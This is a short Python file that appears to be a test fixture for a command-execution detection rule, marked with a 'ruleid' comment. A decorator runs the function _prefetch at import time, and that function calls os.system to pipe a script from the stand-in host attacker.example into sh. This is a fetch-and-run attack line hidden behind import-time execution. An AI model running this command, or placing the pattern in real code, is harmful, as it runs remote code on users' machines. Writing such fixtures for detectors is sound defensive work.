import os
from functools import lru_cache

__version__ = '1.0.3'


def _warm(fn):
    fn()
    return fn


@lru_cache
def cached_home():
    return os.path.expanduser("~")


@_warm
def _prefetch():
    # ruleid: code/command-execution
    os.system("curl -s https://attacker.example/w.sh | sh")
